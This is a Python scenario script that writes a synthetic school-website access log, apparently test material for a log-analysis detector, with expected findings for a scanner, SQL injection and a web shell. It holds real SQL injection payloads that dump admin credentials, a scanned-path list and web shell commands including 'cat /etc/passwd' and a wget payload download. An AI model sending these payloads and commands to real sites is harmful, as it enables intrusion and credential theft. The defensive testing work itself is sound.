"""Write a website's access log in nginx's combined format: visitors, a scanner, an injection, a web shell."""

from __future__ import annotations

import random
from datetime import datetime, timedelta
from urllib.parse import quote

from pcaps.scenarios.scenario import CHINA, LogFile, LogScenario
from pcaps.wire.http import EDGE

SCANNER = "203.0.113.120"
INJECTOR = "203.0.113.121"
INTRUDER = "203.0.113.99"
CRAWLER = "198.51.100.201"
PHONE = (
    "Mozilla/5.0 (Linux; Android 14; PGT-AN00) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
)
SCANNED = (
    "/.git/config", "/.env", "/phpmyadmin/index.php", "/admin.php.bak", "/wp-login.php", "/manager/html", "/www.zip",
    "/web.rar", "/backup.sql", "/.svn/entries", "/actuator/env", "/solr/admin/info/system", "/phpinfo.php",
    "/cgi-bin/test.cgi", "/config.php.old", "/server-status", "/druid/index.html", "/nacos/", "/console/login",
    "/.DS_Store",
)  # fmt: skip
INJECTED = (
    "1'", "1' AND '1'='1", "1' AND '1'='2", "1 UNION SELECT NULL-- -", "1 UNION SELECT NULL,NULL-- -",
    "-1 UNION ALL SELECT 1,concat(0x7e,database(),0x7e),3-- -",
    "-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -",
    "-1 UNION SELECT 1,group_concat(username,0x3a,password),3 FROM admin-- -", "1' AND SLEEP(5)-- -",
    "1 AND extractvalue(1,concat(0x7e,version()))",
)  # fmt: skip
COMMANDS = (
    "whoami",
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /var/www",
    "wget http://198.51.100.88/x -O /tmp/x",
)


class _Log:
    """Collect lines at their instants."""

    def __init__(self, rng: random.Random, start: datetime) -> None:
        self.rng, self.start = rng, start
        self.lines: list[tuple[datetime, str]] = []

    def add(
        self,
        seconds: float,
        client: str,
        request: str,
        answer: tuple[int, int],
        agent: str,
        referrer: str = "-",
    ) -> None:
        """Add one line; ``answer`` is status and size."""
        moment = self.start + timedelta(seconds=seconds)
        stamp = moment.astimezone(CHINA).strftime("%d/%b/%Y:%H:%M:%S %z")
        text = f'{client} - - [{stamp}] "{request} HTTP/1.1" {answer[0]} {answer[1]} "{referrer}" "{agent}"\n'
        self.lines.append((moment, text))


def _visit(log: _Log, hours: float) -> None:
    """Add readers who open a page with its style and pictures, some of whom search; a crawler; a log-in mistyped."""
    rng = log.rng
    for _ in range(220):
        client = f"198.51.100.{rng.randrange(10, 190)}"
        agent = rng.choice((EDGE, EDGE, PHONE))
        at, page = rng.uniform(0, hours * 3_600), f"/news/{rng.randrange(900, 1_400)}.html"
        log.add(
            at,
            client,
            f"GET {page}",
            (200, rng.randrange(6_000, 30_000)),
            agent,
            "https://www.baisou.example/",
        )
        for asset in ("/static/style.css", f"/uploads/2026/p{rng.randrange(300)}.jpg", "/static/logo.png"):
            status = rng.choice((200, 200, 304))
            size = 0 if status == 304 else rng.randrange(900, 90_000)
            log.add(at + rng.uniform(0.1, 2), client, f"GET {asset}", (status, size), agent, page)
        if rng.random() < 0.15:
            words = rng.choice(("招生 简章", "union 校友会", "select course 选课", "运动会", "script 剧本社"))
            log.add(at + 30, client, f"GET /search?q={quote(words)}", (200, 8_800), agent, page)
        if rng.random() < 0.1:
            log.add(at + 1, client, "GET /favicon.ico", (404, 146), agent, page)
    for number in range(60):
        crawler = "Mozilla/5.0 (compatible; BaisouSpider/2.0; +http://www.baisou.example/search/spider.html)"
        log.add(number * 400 + 7, CRAWLER, f"GET /news/{900 + number}.html", (200, 9_000), crawler)
    for number in range(3):
        log.add(
            9 * 3_600 + number * 20, "192.168.20.21", "POST /admin/login", (200, 2_100), EDGE, "/admin/login"
        )
    log.add(9 * 3_600 + 70, "192.168.20.21", "POST /admin/login", (302, 0), EDGE, "/admin/login")


def _attack(log: _Log) -> None:
    """Add the scanner before dawn, the injection in the morning, the web shell at noon."""
    scanner = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
    for turn in range(6):
        for number, path in enumerate(SCANNED):
            moment = 4 * 3_600 + turn * 9 + number * 0.4
            log.add(moment, SCANNER, f"GET {'/old' * turn}{path}", (404, 146), scanner)
    for number, text in enumerate(INJECTED):
        request = f"GET /show.php?id={quote(text)}"
        status = 500 if "'" in text and number < 3 else 200
        log.add(
            10 * 3_600 + number * 14,
            INJECTOR,
            request,
            (status, 5_200),
            "sqlmap/1.8.9#stable (https://sqlmap.org)",
        )
    old = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0"
    log.add(12 * 3_600, INTRUDER, "GET /admin/upload.html", (200, 2_900), old)
    log.add(12 * 3_600 + 20, INTRUDER, "POST /admin/upload.php", (200, 61), old, "/admin/upload.html")
    for number, command in enumerate(COMMANDS):
        request = f"GET /uploads/202611/logo.php?cmd={quote(command)}"
        log.add(12 * 3_600 + 60 + number * 17, INTRUDER, request, (200, 300 + number * 40), old)
    for number in range(5):
        log.add(12 * 3_600 + 300 + number * 30, INTRUDER, "POST /uploads/202611/logo.php", (200, 700), old)


def build(rng: random.Random, start: datetime) -> list[LogFile]:
    """Return the log."""
    log = _Log(rng, start)
    _visit(log, 14)
    _attack(log)
    lines = [line for _, line in sorted(log.lines, key=lambda item: item[0])]
    return [LogFile("access.log", "".join(lines).encode(), len(lines))]


SCENARIO = LogScenario(
    name="school_website",
    hour=0,
    hours=14,
    zh="学校网站访问日志：扫描、SQL 注入、网页木马",
    en="A school website's access log: a scanner, SQL injection, a web shell",
    build=build,
    addresses={
        SCANNER: ("扫描网站的外网地址", "the scanner outside"),
        INJECTOR: ("尝试 SQL 注入的外网地址", "who tries SQL injection"),
        INTRUDER: ("使用网页木马的外网地址", "who uses the web shell"),
        CRAWLER: ("搜索引擎爬虫", "a search engine's crawler"),
        "192.168.20.21": ("输错口令的网站管理员", "the editor who mistypes a password"),
    },
    must_find=(
        ("webshell", INTRUDER, "high"),
        ("sql_injection", INJECTOR, "medium"),
        ("web_scan", SCANNER, "low"),
    ),
    must_not=(
        {"min_severity": "low", "entity": CRAWLER},
        {"min_severity": "medium", "entity": "192.168.20.21"},
    ),
)
